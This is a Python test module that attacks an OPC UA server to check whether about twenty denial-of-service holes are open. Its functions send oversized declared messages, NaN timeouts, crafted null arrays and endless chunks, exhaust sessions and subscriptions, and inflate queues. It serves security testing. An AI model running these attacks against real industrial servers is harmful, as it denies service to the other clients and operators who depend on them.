"""Attacks on the holes through which one who is in, or before the door, spoils the service for the others.

Each is told a target and answers whether the hole is open there. None is given anything that an attacker could not
have. Every one is bounded in number, size and time.
"""

from __future__ import annotations

import asyncio
import contextlib
import math
import struct
from typing import Any

from asyncua import ua
from asyncua.ua.attribute_ids import AttributeIds
from asyncua.ua.ua_binary import struct_to_binary
from hole_server import LARGE, SESSIONS
from hole_target import Target
from holes import REFUSED, accepted, ended, enters, finishes, hole
from ua_attacker import PATIENCE_S, RawClient
from ua_requests import (
    VALUE,
    activate_request,
    create_request,
    monitor_request,
    monitored,
    node,
    read_request,
    sent,
    subscribe_request,
)


@hole("declared sizes")
async def giant_claim(target: Target) -> bool:
    """Declare a message of 2 GiB, and send 24 MiB of it before anybody knows who one is."""
    client = await RawClient.connect(target.port)
    before = target.memory()
    client.send(b"HELF" + struct.pack("<I", 0x7FFF_FFFF))
    with contextlib.suppress(ConnectionError):
        for _ in range(24):
            client.send(bytes(1 << 20))
            await client.writer.drain()
    return not await ended(target, client) and target.memory() - before > 16 << 20


@hole("declared sizes")
async def busy_publishing(target: Target) -> bool:
    """A publishing interval of a microsecond."""
    client = await RawClient.login(target.port)
    created = await accepted(client, subscribe_request(interval_ms=0.001, keep_alive=1))
    if created is None:
        return False
    interval: float = created.Parameters.RevisedPublishingInterval
    request = ua.DeleteSubscriptionsRequest()
    request.Parameters.SubscriptionIds = [created.Parameters.SubscriptionId]
    await accepted(client, request)
    return interval < 1.0


@hole("channel lifetime")
async def endless_channel(target: Target) -> bool:
    """A channel whose keys are good for 49 days."""
    client = await RawClient.connect(target.port)
    await client.hello()
    return await client.open_channel(0xFFFF_FFFF) > 86_400_000


@hole("timers", spoils=True)
async def stopped_timers(target: Target) -> bool:
    """Sessions with a timeout of NaN, until the timers of the process come late or not at all."""
    clients = []
    revised = []
    for _ in range(40):
        client = await RawClient.open(target.port)
        revised.append((await client.create_session(math.nan)).RevisedSessionTimeout)
        with contextlib.suppress(*REFUSED):
            await client.activate()
        clients.append(client)
    before = await target.ask("ticks")
    await asyncio.sleep(1.0)
    late = await target.ask("ticks") - before
    for client in clients:
        await client.close()
    return any(map(math.isnan, revised)) and late < 25


@hole("messages before their time")
async def message_before_hello(target: Target) -> bool:
    """A request as the first bytes of a connection."""
    client = await RawClient.connect(target.port)
    return await accepted(client, ua.GetEndpointsRequest()) is not None


def events(subscription_id: int, operand: ua.SimpleAttributeOperand) -> ua.CreateMonitoredItemsRequest:
    """Monitor the Server's events with one select clause."""
    chosen = ua.EventFilter()
    chosen.SelectClauses = [operand]
    item = monitored(node(2253), AttributeIds.EventNotifier, QueueSize=10, Filter=chosen)
    return monitor_request(subscription_id, item)


def clause(attribute: int = AttributeIds.Value, path: list[ua.QualifiedName] | None = None) -> Any:
    """A select clause of BaseEventType."""
    made = ua.SimpleAttributeOperand()
    made.TypeDefinitionId = node(2041)
    made.AttributeId = ua.UInt32(attribute)
    made.BrowsePath = path  # type: ignore[assignment]  # null, which is what open62541 sends for an empty one
    return made


async def events_stop(target: Target, poison: ua.SimpleAttributeOperand) -> bool:
    """Whether one client's select clause keeps another's event from being delivered."""
    spoiler, honest = await RawClient.login(target.port), await RawClient.login(target.port)
    number = (await spoiler.ask(subscribe_request())).Parameters.SubscriptionId
    await accepted(spoiler, events(number, poison))
    created = await honest.ask(subscribe_request())
    await honest.ask(events(created.Parameters.SubscriptionId, clause(path=[ua.QualifiedName("Message")])))
    raised = await target.ask("event")
    request = ua.DeleteSubscriptionsRequest()
    request.Parameters.SubscriptionIds = [number]
    await accepted(spoiler, request)
    if raised:
        return True
    while True:
        answer = await honest.ask(ua.PublishRequest(), PATIENCE_S)
        if answer.Parameters.NotificationMessage.NotificationData:
            await honest.close()
            return False


@hole("one filter stops all events")
async def unknown_attribute(target: Target) -> bool:
    """Select an attribute that does not exist."""
    return await events_stop(target, clause(attribute=4711, path=[]))


@hole("one filter stops all events")
async def null_path(target: Target) -> bool:
    """Select a null path: some clients send it for an empty one without meaning harm."""
    return await events_stop(target, clause())


@hole("null arrays")
async def null_array(target: Target) -> bool:
    """110 bytes that claim millions of elements of the empty type."""
    client = await RawClient.login(target.port)
    before = target.memory("VmHWM")
    request = ua.WriteRequest()
    request.RequestHeader.AuthenticationToken = client.auth
    variant = b"\x80" + struct.pack("<i", 12_000_000)
    item = b"\x00\x00" + struct.pack("<I", 13) + struct.pack("<i", -1) + b"\x01" + variant
    client.send(client.chunk(b"MSG", struct_to_binary(request)[:-4] + struct.pack("<i", 1) + item))
    with contextlib.suppress(*REFUSED):
        await client.response(PATIENCE_S)
    return target.memory("VmHWM") - before > 24 << 20


@hole("sessions of one connection")
async def left_sessions(target: Target) -> bool:
    """Create sessions, activate none, hang up: what stays takes others' places."""
    client = await RawClient.open(target.port)
    before = await target.ask("sessions")
    for _ in range(20):
        await accepted(client, create_request())
    await client.close()

    async def gone() -> bool:
        return bool(await target.ask("sessions") - before <= 1)

    return not await target.within(50, gone)


@hole("sessions of one connection")
async def first_session_lost(target: Target) -> bool:
    """Open a second session on a channel and close it: the first, which is in use, is gone too."""
    client = await RawClient.login(target.port)
    first = client.auth
    created = await accepted(client, create_request())
    if created is not None:
        client.auth = created.Parameters.AuthenticationToken
        await client.activate()
        await accepted(client, ua.CloseSessionRequest())
    client.auth = first
    return await accepted(client, read_request(VALUE)) is None


@hole("sessions of one connection")
async def neighbours_sessions(target: Target) -> bool:
    """Take all sessions of one server: another one in the same process counts them as its own."""
    await all_sessions(target)
    return not await enters(await target.client())


@hole("sessions of one connection", spoils=True)
async def all_sessions(target: Target) -> bool:
    """Activate session after session on one connection, until nobody else gets one."""
    client = await RawClient.open(target.port)
    for _ in range(SESSIONS + 1):
        created = await accepted(client, create_request())
        if created is None:
            break
        client.auth = created.Parameters.AuthenticationToken
        if await accepted(client, activate_request()) is None:
            break
    newcomer = await RawClient.open(target.port)
    await newcomer.create_session()
    return await accepted(newcomer, activate_request()) is None


@hole("items and subscriptions")
async def endless_queue(target: Target) -> bool:
    """A monitored item that keeps four thousand million values, by a detour over Modify."""
    client = await RawClient.login(target.port)
    created = await client.ask(subscribe_request())
    number = created.Parameters.SubscriptionId
    made = await client.ask(monitor_request(number, monitored(QueueSize=ua.UInt32(1))))
    request = ua.ModifyMonitoredItemsRequest()
    request.Parameters.SubscriptionId = number
    change = ua.MonitoredItemModifyRequest()
    change.MonitoredItemId = made.Results[0].MonitoredItemId
    change.RequestedParameters.QueueSize = ua.UInt32(0xFFFF_FFFF)
    request.Parameters.ItemsToModify = [change]
    changed = await accepted(client, request)
    return changed is not None and changed.Results[0].RevisedQueueSize > 1_000_000


@hole("items and subscriptions")
async def nonsense_intervals(target: Target) -> bool:
    """Sampling and publishing intervals that are no time at all."""
    client = await RawClient.login(target.port)
    created = await client.ask(subscribe_request())
    number = created.Parameters.SubscriptionId
    for wanted in (math.nan, 1e300):
        made = await accepted(client, monitor_request(number, monitored(SamplingInterval=ua.Double(wanted))))
        if made is not None and made.Results[0].StatusCode.is_good():
            revised = made.Results[0].RevisedSamplingInterval
            if math.isnan(revised) or revised > 1e9:
                return True
    for wanted in (-5.0, 1e300):
        client = await RawClient.login(target.port)
        made = await accepted(client, subscribe_request(interval_ms=wanted))
        if made is not None and not 0 < made.Parameters.RevisedPublishingInterval < 1e9:
            return True
    return False


@hole("items and subscriptions")
async def all_subscriptions(target: Target) -> bool:
    """One session that takes as many subscriptions as it likes."""
    client = await RawClient.login(target.port)
    for _ in range(200):
        if await accepted(client, subscribe_request(interval_ms=10_000.0)) is None:
            return False
    await client.close()
    return True


@hole("items and subscriptions")
async def orphan(target: Target) -> bool:
    """A subscription that outlives its client by months."""
    client = await RawClient.login(target.port)
    created = (await client.ask(subscribe_request(interval_ms=86_400_000.0, lifetime=0xFFFF_FFFF))).Parameters
    return bool(created.RevisedPublishingInterval * created.RevisedLifetimeCount / 1000 > 30 * 86_400)


@hole("output and unfinished messages")
async def deaf_reader(target: Target) -> bool:
    """Ask for much and read nothing."""
    client = await RawClient.login(target.port)
    client.writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's transport can
    before = target.memory()
    for _ in range(64):
        client.send(client.message(read_request(*[LARGE] * 10)))

    async def grown() -> bool:
        return target.memory() - before >= 32 << 20

    swollen = await target.within(100, grown)
    client.writer.transport.abort()
    return swollen


@hole("output and unfinished messages")
async def endless_message(target: Target) -> bool:
    """16 MiB of one message, which has no end, from a client without a session."""
    client = await RawClient.open(target.port)
    with contextlib.suppress(ConnectionError):
        for _ in range(256):
            client.send(client.chunk(b"MSG", bytes(65_000), b"C", keep_request=True))
            await client.writer.drain()
    return not await ended(target, client)


@hole("transferred subscriptions")
async def lost_transfer(target: Target) -> bool:
    """Take one's subscription to a new session: what it has to tell still goes to the old one, or nowhere."""
    async with await target.client() as old, await target.client() as new:
        created = await sent(old, subscribe_request(keep_alive=1000))
        number = created.Parameters.SubscriptionId
        await sent(old, monitor_request(number, monitored()))
        request = ua.TransferSubscriptionsRequest()
        request.Parameters.SubscriptionIds = [number]
        moved = await sent(new, request)
        assert moved.Parameters.Results[0].StatusCode.is_good()
        publishing = asyncio.create_task(sent(new, ua.PublishRequest()))
        await new.get_node(VALUE).write_value(ua.DataValue(ua.Variant(7.25)))
        return not await finishes(target, publishing, 100)
